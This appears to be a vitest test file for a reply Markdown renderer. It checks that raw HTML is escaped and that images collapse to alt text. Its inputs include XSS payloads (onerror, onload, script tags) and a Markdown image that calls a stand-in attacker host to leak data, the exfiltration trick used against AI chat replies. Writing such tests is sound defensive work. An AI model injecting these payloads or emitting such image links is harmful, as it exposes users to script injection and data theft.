import { describe, expect, it } from "vitest";
import { createMarkdown } from "./markdown.js";

const render = createMarkdown();

describe("reply Markdown", () => {
  it("renders the Markdown replies use: lists, emphasis, code, links, line breaks", () => {
    const html = render("Rolled back **exec_1234**:\n- order `ord_1` refunded\n- see [the docs](https://example.com/docs)");
    expect(html).toContain("<strong>exec_1234</strong>");
    expect(html).toMatch(/<li>order <code>ord_1<\/code> refunded<\/li>/);
    expect(html).toContain('<a href="https://example.com/docs">the docs</a>');
    expect(render("one\ntwo")).toBe("<p>one<br>two</p>\n");
  });

  it("shows raw HTML as text, inline and as a block", () => {
    expect(render('Saved note "<img src=x onerror=alert(1)>".')).toBe('<p>Saved note &quot;&lt;img src=x onerror=alert(1)&gt;&quot;.</p>\n');
    expect(render("<script>alert(1)</script>")).toBe("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(render("<div onclick=alert(1)>\nhi\n</div>")).not.toMatch(/<div|<script/);
    expect(render("a <b onmouseover=alert(1)>b</b>")).not.toContain("<b ");
  });

  it("turns images into their alt text, so a reply never fetches a URL", () => {
    expect(render("![secret data](https://evil.example/collect?d=123)")).toBe("<p>secret data</p>\n");
    expect(render('![<svg onload=alert(1)>](x)')).not.toContain("<svg");
  });

  it("escapes what it echoes from code and link text", () => {
    expect(render("`<img src=x>`")).toBe("<p><code>&lt;img src=x&gt;</code></p>\n");
    expect(render("```\n<script>x</script>\n```")).toContain("&lt;script&gt;");
  });
});
